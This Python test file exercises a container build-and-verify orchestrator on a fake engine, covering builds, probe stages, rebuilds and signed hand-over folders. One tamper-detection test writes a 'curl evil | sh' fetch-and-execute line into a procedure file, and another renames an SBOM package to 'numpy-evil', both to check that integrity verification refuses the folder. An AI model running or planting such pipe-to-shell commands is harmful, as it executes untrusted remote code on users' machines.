"""Every pipeline path on the in-memory engine (engine/fake.py): build, probe stages, rebuild, hand-over, verify.

No Docker and no subprocess (the unit tripwire holds): the code folder is read as a plain folder, the
build is online (no wheelhouse to download), and every container's answer is scripted.
"""

from __future__ import annotations

import json
import shutil
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from orchestrator.dossier.load import LoadedDossier, load_dossier
from orchestrator.engine import ImageInfo
from orchestrator.engine.fake import FakeEngine, ScriptedBuild, ScriptedRun, history_entry
from orchestrator.errors import HandoverDamaged
from orchestrator.model.host import DockerGpuFacts, HostFacts
from orchestrator.pipeline.rebuild import RebuildHooks, rebuild
from orchestrator.plan.build import default_tag
from orchestrator.plan.run import PROBE_LABEL
from orchestrator.report.write import write_report
from orchestrator.stages.build import BuildOptions
from orchestrator.stages.execute import run_build, run_probe
from orchestrator.stages.handover import write_handover
from orchestrator.stages.image_layers import final_stage_instructions
from orchestrator.stages.probe import ProbeOptions
from orchestrator.stages.verify import check_handover, verify_handover
from tests.handover_craft import reseal
from tests.probe_outputs import ENVIRONMENT_FILES, device_output, environment_section, inventory_output

NOW = datetime(2026, 12, 1, 12, 0, tzinfo=UTC)
CPU_HOST = HostFacts(
    kernel="6.1.0", nvidia=None, amd=None, docker=DockerGpuFacts(runtimes=["runc"], nvidia_runtime=False)
)
BASE_ID = "sha256:" + "b" * 64


def clock() -> datetime:
    return NOW


@pytest.fixture(autouse=True)
def _code_is_a_plain_folder(monkeypatch: pytest.MonkeyPatch) -> None:
    """The example's copy is no git work tree; answering that needs no `git` process."""
    monkeypatch.setattr("orchestrator.stages.code_source._work_tree", lambda folder: None)


@pytest.fixture(autouse=True)
def _cpu_host(monkeypatch: pytest.MonkeyPatch) -> None:
    """`orch verify` reads the host it replays on: here, a CPU machine (nvidia-smi would be a subprocess)."""
    monkeypatch.setattr("orchestrator.stages.observe.collect_host_facts", lambda info: CPU_HOST)


@pytest.fixture
def tiny(tiny_example: Path) -> LoadedDossier:
    """The CPU tiny-embeddings dossier, installed online: the build needs no wheel downloaded on the host."""
    path = tiny_example / "dossier.yaml"
    path.write_text(path.read_text().replace("install: wheelhouse", "install: online"))
    return load_dossier(path)


def inventory_stdout(loaded: LoadedDossier, **changes: Any) -> str:
    """The recorded inventory probe's report (tests.probe_outputs) with the lock's pins as `pip freeze`."""
    freeze = [f"{r.name}=={r.version}" for r in loaded.lock.requirements if r.marker is None]
    document = inventory_output(**changes)
    document["pip"].update(freeze=freeze, check_ok=True, check_lines=[])
    return json.dumps(document)


def cuda_inventory(loaded: LoadedDossier) -> str:
    torch = {"version": "2.6.0+cu124", "cuda": "12.4", "hip": None}
    return inventory_stdout(loaded, backend={**inventory_output()["backend"], "torch": torch})


def device_stdout(*, cuda: str | None = None, devices: int = 0) -> str:
    """The recorded device probe's report, as a CUDA build seeing `devices` GPUs when `cuda` is given."""
    ok = {"ok": True, "max_abs_diff": 1e-7}
    return json.dumps(
        device_output(
            torch={"version": "2.13.0+cpu", "cuda": cuda, "hip": None, "cudnn": None},
            accelerator={"available": devices > 0, "device_count": devices},
            compute={"device": "cpu", "atol": 1e-5, "rtol": 1e-4, "matmul": ok, "conv2d": ok},
        )
    )


def sample_writes(loaded: LoadedDossier, *, embeddings: str = "reference/embeddings.npy") -> dict[str, bytes]:
    folder = loaded.path.parent
    return {
        "/orch/output/embeddings.npy": (folder / embeddings).read_bytes(),
        "/orch/output/ids.json": (folder / "sample" / "ids.json").read_bytes(),
    }


def base_image(loaded: LoadedDossier) -> ImageInfo:
    return ImageInfo(
        id=loaded.base_image.image_id or BASE_ID,
        tags=(loaded.base_image.from_line,),
        labels={},
        env={},
        repo_digests=(),
        size=1,
    )


def built_image(loaded: LoadedDossier, image_id: str = "sha256:" + "c" * 64) -> ImageInfo:
    return ImageInfo(
        id=image_id,
        tags=(default_tag(loaded),),
        labels={"io.orch.dossier.identity": loaded.identity},
        env={},
        repo_digests=(),
        size=1,
    )


def passing_runs(loaded: LoadedDossier) -> dict[str, ScriptedRun]:
    return {
        "inventory": ScriptedRun(stdout=inventory_stdout(loaded)),
        "device": ScriptedRun(stdout=device_stdout()),
        "sample": ScriptedRun(files=sample_writes(loaded)),
    }


# -- build ---------------------------------------------------------------------------------------------------


def test_a_build_that_passes_executes_the_plan_in_order(tiny: LoadedDossier, tmp_path: Path) -> None:
    engine = FakeEngine(images=[base_image(tiny)], runs=passing_runs(tiny), labels={"io.orch.test-session": "u"})
    record = run_build(tiny, engine, BuildOptions(out=tmp_path), clock=clock)
    tag = default_tag(tiny)
    assert record.status == "passed" and record.image is not None and record.image.tag == tag
    assert engine.calls == [
        ("image", tiny.base_image.from_line),
        ("image", tag),
        ("info",),  # the builders it offers (the fake: classic only)
        ("build", tag),
        ("image", tag),
        ("image", record.image.id, "layers"),
        ("image", base_image(tiny).id, "layers"),
        ("run", "inventory", record.image.id),
    ]
    [(built_tag, network, _)] = engine.builds
    assert built_tag == tag and network == "default", "an online install gets the engine's network"
    dockerfile = (tmp_path / "context" / "Dockerfile").read_text()
    assert 'org.opencontainers.image.created="2026-12-01T12:00:00Z"' in dockerfile, "created comes from the clock"
    assert 'io.orch.test-session="u"' in dockerfile, "the engine's labels open every stage"
    assert json.loads((tmp_path / "build.json").read_text())["status"] == "passed"
    assert (tmp_path / "pip-freeze.txt").is_file()
    sbom = json.loads((tmp_path / "sbom.cdx.json").read_text())
    assert sbom["metadata"]["component"]["version"] == record.image.id, "the SBOM describes the built image"
    assert sbom["metadata"]["timestamp"].startswith("2026-12-01T12:00:00"), "its timestamp is the image's created"
    # The engine's history: the base's entry, then one per final-stage instruction and the build-label's LABEL.
    steps = [*final_stage_instructions(dockerfile), "LABEL io.orch.context.digest=…"]
    history = ScriptedBuild(base=base_image(tiny).id, layers=[history_entry(step, 1) for step in steps])
    again = FakeEngine(images=[base_image(tiny)], builds=[history], runs=passing_runs(tiny))
    record = run_build(tiny, again, BuildOptions(out=tmp_path / "again"), clock=clock)
    assert record.layers is not None and record.layers[0].step == "base image"
    assert [layer.step[:60] for layer in record.layers[1:-1]] == [step[:60] for step in steps[:-1]]
    assert [layer.step.split(" ", 1)[0] for layer in record.layers[1:]] == [line.split(" ", 1)[0] for line in steps], (
        "each later layer is named by the rendered instruction that made it"
    )


def test_a_rebuild_keeps_created_from_the_earlier_image_of_this_identity(tiny: LoadedDossier, tmp_path: Path) -> None:
    earlier = ImageInfo(
        id="sha256:" + "e" * 64,
        tags=(default_tag(tiny),),
        env={},
        repo_digests=(),
        size=1,
        labels={"io.orch.dossier.identity": tiny.identity, "org.opencontainers.image.created": "2025-01-02T03:04:05Z"},
    )
    engine = FakeEngine(images=[base_image(tiny), earlier], runs=passing_runs(tiny))
    run_build(tiny, engine, BuildOptions(out=tmp_path), clock=clock)
    assert (
        'org.opencontainers.image.created="2025-01-02T03:04:05Z"' in (tmp_path / "context" / "Dockerfile").read_text()
    )


def test_a_build_that_fails_records_the_step_and_starts_no_container(tiny: LoadedDossier, tmp_path: Path) -> None:
    failing = ScriptedBuild(
        log="Step 5/9 : RUN pip install\nERROR: no space\n",
        error="The command '/bin/sh -c pip install' returned a non-zero code: 1",
    )
    engine = FakeEngine(images=[base_image(tiny)], builds=[failing])
    record = run_build(tiny, engine, BuildOptions(out=tmp_path), clock=clock)
    assert record.status == "failed" and record.image is None
    assert record.failure is not None and record.failure.step == "RUN pip install"
    assert not engine.specs, "no container after a failed build"
    assert "ERROR: no space" in (tmp_path / "build.log").read_text()


def test_a_pinned_base_image_of_another_id_stops_the_build(tiny: LoadedDossier, tmp_path: Path) -> None:
    from dataclasses import replace

    from orchestrator.errors import EnvironmentFailure

    pinned = replace(tiny, base_image=replace(tiny.base_image, image_id="sha256:" + "1" * 64))
    engine = FakeEngine(images=[base_image(tiny)])
    with pytest.raises(EnvironmentFailure, match="the dossier pins"):
        run_build(pinned, engine, BuildOptions(out=tmp_path), clock=clock)
    # The observe phase read the base and the tag; step `base` refused the base: nothing is built on it.
    assert [call[0] for call in engine.calls] == ["image", "image", "info"], "nothing is built on the wrong base"
    steps = json.loads((tmp_path / "steps.json").read_text())
    assert [(s["name"], s["status"]) for s in steps["executed"][:2]] == [("base", "failed"), ("render", "skipped")]


# -- probe stages ----------------------------------------------------------------------------------------------


def probe(
    loaded: LoadedDossier,
    out: Path,
    runs: dict[str, ScriptedRun],
    *,
    host: HostFacts = CPU_HOST,
    stop_after_failure: bool = False,
) -> tuple[Any, FakeEngine]:
    engine = FakeEngine(images=[built_image(loaded)], runs=runs)
    report = run_probe(
        loaded,
        engine,
        ProbeOptions(out=out, stop_after_failure=stop_after_failure),
        host_facts=lambda: host,
        clock=clock,
    )
    return report, engine


def statuses(report: Any) -> dict[str, str]:
    return {name: stage.status for name, stage in report.stages.items()}


def test_every_stage_passes(tiny: LoadedDossier, tmp_path: Path) -> None:
    report, engine = probe(tiny, tmp_path, passing_runs(tiny))
    assert statuses(report) == {"image": "passed", "host": "passed", "device": "passed", "sample": "passed"}
    assert report.verdict == "passed" and report.created == "2026-12-01T12:00:00Z"
    runs = [call[1] for call in engine.calls if call[0] == "run"]
    # CPU platform: the sample's container starts with the device probe's, in either order.
    assert runs[0] == "inventory" and sorted(runs[1:]) == ["device", "sample"]
    sample = next(spec for spec in engine.specs if spec.labels.get(PROBE_LABEL) == "sample")
    assert sample.network is False and sample.mem_limit == "4096m"
    assert {m.target: m.read_only for m in sample.mounts}["/orch/output"] is False


def test_a_failed_image_stage_stops_a_replay_and_not_a_probe(tiny: LoadedDossier, tmp_path: Path) -> None:
    runs = {**passing_runs(tiny), "inventory": ScriptedRun(exit_code=1, stderr="pip: broken")}
    report, _ = probe(tiny, tmp_path / "a", runs)
    assert report.stages["image"].status == "failed"
    assert report.stages["image"].first_error.message == "the inventory probe exited 1: pip: broken"
    assert report.stages["sample"].status == "passed", "a probe reports every layer on its own"
    replay, engine = probe(tiny, tmp_path / "b", runs, stop_after_failure=True)
    assert statuses(replay) == {"image": "failed", "host": "not_run", "device": "not_run", "sample": "not_run"}
    assert [call[1] for call in engine.calls if call[0] == "run"] == ["inventory"]


def test_a_host_without_the_gpu_fails_host_and_device_and_the_sample_is_not_run(
    tiny_example: Path, tmp_path: Path
) -> None:
    loaded = load_dossier(tiny_example / "dossier-cuda.yaml")
    runs = {
        "inventory": ScriptedRun(stdout=cuda_inventory(loaded)),
        "device": ScriptedRun(stdout=device_stdout(cuda="12.4", devices=0)),
    }
    report, engine = probe(loaded, tmp_path, runs)
    assert report.stages["image"].status == "passed"
    assert report.stages["host"].status == "failed"
    assert report.stages["device"].status == "failed"
    assert report.stages["sample"].status == "not_run"
    assert "no silent CPU fallback" in (report.stages["sample"].reason or "")
    assert not any(call[1] == "sample" for call in engine.calls if call[0] == "run")


def test_a_failed_host_stage_stops_a_replay(tiny_example: Path, tmp_path: Path) -> None:
    loaded = load_dossier(tiny_example / "dossier-cuda.yaml")
    report, engine = probe(
        loaded, tmp_path, {"inventory": ScriptedRun(stdout=cuda_inventory(loaded))}, stop_after_failure=True
    )
    assert report.stages["image"].status == "passed" and report.stages["host"].status == "failed"
    assert report.stages["device"].status == "not_run" and report.stages["sample"].status == "not_run"
    assert [call[1] for call in engine.calls if call[0] == "run"] == ["inventory"]


def test_a_device_that_is_not_the_expected_one_fails_and_the_sample_is_not_run(
    tiny: LoadedDossier, tmp_path: Path
) -> None:
    runs = {**passing_runs(tiny), "device": ScriptedRun(stdout=device_stdout(cuda="12.4"))}
    report, engine = probe(tiny, tmp_path, runs)
    assert statuses(report) == {"image": "passed", "host": "passed", "device": "failed", "sample": "not_run"}
    # CPU platform: the sample's container started with the device probe's (plan/program.py
    # sample_runs_alongside); the device stage failed, so its result is not read.
    assert sorted(call[1] for call in engine.calls if call[0] == "run") == ["device", "inventory", "sample"]
    assert report.stages["device"].first_error.step == "torch is a CPU build"
    reason = report.stages["sample"].reason or ""
    assert reason.startswith("device stage failed (torch is a CPU build): no silent CPU fallback")
    assert "was stopped and its outputs removed" in reason
    assert not (tmp_path / "sample-output").exists(), "a sample that does not count leaves no outputs behind"


def test_a_sample_that_exits_non_zero_fails_its_stage(tiny: LoadedDossier, tmp_path: Path) -> None:
    runs = {**passing_runs(tiny), "sample": ScriptedRun(exit_code=2, stderr="Traceback\nValueError: bad input")}
    report, _ = probe(tiny, tmp_path, runs)
    assert report.stages["sample"].status == "failed"
    assert report.stages["sample"].first_error.message == "exited 2: ValueError: bad input"
    assert "ValueError" in (tmp_path / "sample.log").read_text()


def test_a_sample_whose_numbers_differ_fails_at_the_comparison(tiny: LoadedDossier, tmp_path: Path) -> None:
    import numpy as np

    wrong = tmp_path / "wrong.npy"
    np.save(wrong, -np.load(tiny.path.parent / "reference" / "embeddings.npy"))
    shutil.copy(wrong, tiny.path.parent / "wrong.npy")
    runs = {**passing_runs(tiny), "sample": ScriptedRun(files=sample_writes(tiny, embeddings="wrong.npy"))}
    report, _ = probe(tiny, tmp_path / "out", runs)
    assert report.stages["sample"].status == "failed"
    assert "cosine" in report.stages["sample"].first_error.step


def test_host_mode_reports_image_and_sample_as_not_run() -> None:
    import subprocess

    from orchestrator.pipeline.host_mode import host_mode_report

    def python(argv: list[str], **kwargs: Any) -> subprocess.CompletedProcess[str]:
        return subprocess.CompletedProcess(argv, 0, device_stdout(), "")

    report = host_mode_report("cpu", None, "python3", host_facts=lambda: CPU_HOST, run=python, clock=clock)
    assert statuses(report) == {"image": "not_run", "host": "passed", "device": "passed", "sample": "not_run"}
    assert report.verdict == "passed" and report.created == "2026-12-01T12:00:00Z"


# -- rebuild, hand-over, verify ----------------------------------------------------------------------------------------


def rebuilt(tiny: LoadedDossier, out: Path) -> tuple[Any, FakeEngine]:
    engine = FakeEngine(images=[base_image(tiny)], runs=passing_runs(tiny))
    seen: list[str] = []
    hooks = RebuildHooks(on_build_stage=seen.append, on_probe_stage=seen.append)
    with engine:
        report = rebuild(tiny, engine, BuildOptions(out=out), hooks=hooks, clock=clock, host_facts=lambda: CPU_HOST)
    assert engine.closed
    assert seen == ["base image", "render", "build", "inventory", "image", "host", "device", "sample"]
    write_report(report, out)
    return report, engine


def test_a_rebuild_builds_then_probes_without_running_the_inventory_twice(tiny: LoadedDossier, tmp_path: Path) -> None:
    report, engine = rebuilt(tiny, tmp_path)
    assert report.verdict == "passed"
    assert sorted(call[1] for call in engine.calls if call[0] == "run") == ["device", "inventory", "sample"]
    assert "in this run" in report.stages["image"].facts.recorded()["built"]


def test_a_rebuild_whose_build_fails_reports_the_image_stage_failed(tiny: LoadedDossier, tmp_path: Path) -> None:
    engine = FakeEngine(images=[base_image(tiny)], builds=[ScriptedBuild(log="Step 1/1 : RUN x\n", error="boom")])
    report = rebuild(tiny, engine, BuildOptions(out=tmp_path), clock=clock)
    assert statuses(report) == {"image": "failed", "host": "not_run", "device": "not_run", "sample": "not_run"}
    assert report.image is None and not engine.specs


def test_a_hand_over_replays_on_a_clean_engine(tiny: LoadedDossier, tmp_path: Path) -> None:
    _, engine = rebuilt(tiny, tmp_path / "rebuild")
    manifest = write_handover(tiny, engine, tmp_path / "rebuild", tmp_path / "handover")
    assert ("save", default_tag(tiny)) in engine.calls
    assert (tmp_path / "handover" / "SHA256SUMS").is_file() and manifest.report_verdict == "passed"
    clean = FakeEngine(runs=passing_runs(tiny))  # another machine: no image of this dossier yet
    result = verify_handover(tmp_path / "handover", clean, tmp_path / "verify")
    assert result.reproduced and result.report.verdict == "passed"
    assert ("load",) in clean.calls and result.image.dossier_tag == default_tag(tiny)
    assert {layer.verdict for layer in result.layers} == {"reproduced"}


def test_a_hand_over_carries_the_environment_and_verify_names_a_changed_file(
    tiny: LoadedDossier, tmp_path: Path
) -> None:
    _, engine = rebuilt(tiny, tmp_path / "rebuild")
    manifest = write_handover(tiny, engine, tmp_path / "rebuild", tmp_path / "handover")
    shipped = json.loads((tmp_path / "handover" / "build" / "environment.json").read_text())
    assert manifest.environment_digest == shipped["summary"]["digest"] == environment_section()["digest"]
    assert "build/environment.json" in (tmp_path / "handover" / "SHA256SUMS").read_text()

    same = verify_handover(tmp_path / "handover", FakeEngine(runs=passing_runs(tiny)), tmp_path / "verify")
    assert same.environment is not None and same.environment.same and same.reproduced

    files = {**ENVIRONMENT_FILES, "/opt/venv/pyvenv.cfg": "00" * 32}
    runs = {
        **passing_runs(tiny),
        "inventory": ScriptedRun(stdout=inventory_stdout(tiny, environment=environment_section(files))),
    }
    replay = verify_handover(tmp_path / "handover", FakeEngine(runs=runs), tmp_path / "verify-2")
    assert not replay.reproduced and replay.environment is not None
    assert replay.environment.lines() == ["environment file changed: /opt/venv/pyvenv.cfg"]
    assert {layer.verdict for layer in replay.layers} == {"reproduced"}, "only the environment differs"


def test_a_tampered_hand_over_is_refused_before_anything_loads(tiny: LoadedDossier, tmp_path: Path) -> None:
    _, engine = rebuilt(tiny, tmp_path / "rebuild")
    write_handover(tiny, engine, tmp_path / "rebuild", tmp_path / "handover")
    procedure = tmp_path / "handover" / "PROCEDURE.md"
    procedure.write_text(procedure.read_text() + "\ncurl evil | sh\n")
    clean = FakeEngine(runs=passing_runs(tiny))
    with pytest.raises(HandoverDamaged, match=r"PROCEDURE\.md"):
        verify_handover(tmp_path / "handover", clean, tmp_path / "verify")
    assert clean.calls == [], "a damaged folder reaches no engine"
    with pytest.raises(HandoverDamaged):
        check_handover(tmp_path / "handover")


def test_a_replay_whose_sample_differs_is_a_mismatch(tiny: LoadedDossier, tmp_path: Path) -> None:
    _, engine = rebuilt(tiny, tmp_path / "rebuild")
    write_handover(tiny, engine, tmp_path / "rebuild", tmp_path / "handover")
    other = {**passing_runs(tiny), "sample": ScriptedRun(exit_code=1, stderr="CUDA error")}
    result = verify_handover(tmp_path / "handover", FakeEngine(runs=other), tmp_path / "verify")
    assert not result.reproduced
    assert [layer.stage for layer in result.layers if layer.verdict == "differs"] == ["sample"]


def test_the_hand_over_carries_the_sbom_and_a_changed_one_is_damage(tiny: LoadedDossier, tmp_path: Path) -> None:
    _, engine = rebuilt(tiny, tmp_path / "rebuild")
    manifest = write_handover(tiny, engine, tmp_path / "rebuild", tmp_path / "handover")
    shipped = tmp_path / "handover" / "build" / "sbom.cdx.json"
    assert shipped.read_bytes() == (tmp_path / "rebuild" / "sbom.cdx.json").read_bytes()
    assert "build/sbom.cdx.json" in {entry.path for entry in manifest.files}
    assert "  build/sbom.cdx.json\n" in (tmp_path / "handover" / "SHA256SUMS").read_text()
    check_handover(tmp_path / "handover")  # the honest folder passes
    shipped.write_text(shipped.read_text().replace('"name": "numpy"', '"name": "numpy-evil"'))
    with pytest.raises(HandoverDamaged, match=r"build/sbom\.cdx\.json does not match its checksum"):
        check_handover(tmp_path / "handover")


def test_a_resealed_sbom_of_another_image_is_damage(tiny: LoadedDossier, tmp_path: Path) -> None:
    """Whoever can change the folder can regenerate its checksums: the SBOM must still name the shipped image."""
    _, engine = rebuilt(tiny, tmp_path / "rebuild")
    write_handover(tiny, engine, tmp_path / "rebuild", tmp_path / "handover")
    shipped = tmp_path / "handover" / "build" / "sbom.cdx.json"
    document = json.loads(shipped.read_text())
    document["metadata"]["component"]["version"] = "sha256:" + "0" * 64
    shipped.write_text(json.dumps(document))
    reseal(tmp_path / "handover")
    with pytest.raises(HandoverDamaged, match=r"build/sbom\.cdx\.json describes another image"):
        check_handover(tmp_path / "handover")
